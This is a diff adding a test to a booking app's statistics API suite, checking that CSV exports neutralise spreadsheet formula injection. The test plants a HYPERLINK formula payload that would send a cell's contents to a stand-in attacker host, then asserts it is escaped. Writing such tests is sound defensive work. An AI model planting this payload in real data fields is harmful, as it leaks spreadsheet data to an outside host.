@@ -110,3 +110,12 @@ def test_the_cache_lasts_the_setting(api, city, settings):
     assert api.get("/api/v1/stats/").json()["totals"]["bookings_completed"] == 12
     loan(city.listings["drill"], city.people["bin"], at(3), at(4))
     assert api.get("/api/v1/stats/").json()["totals"]["bookings_completed"] == 13
+
+
+def test_a_csv_cell_never_starts_a_formula(api, city):
+    library = city.communities["library"]
+    library.name = '=HYPERLINK("http://evil.example/"&A1,"click")'
+    library.save()
+    _header, rows, _notes = read_csv(api.get("/api/v1/stats/communities.csv?lang=en"))
+    assert rows[0][1] == '\'=HYPERLINK("http://evil.example/"&A1,"click")'
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
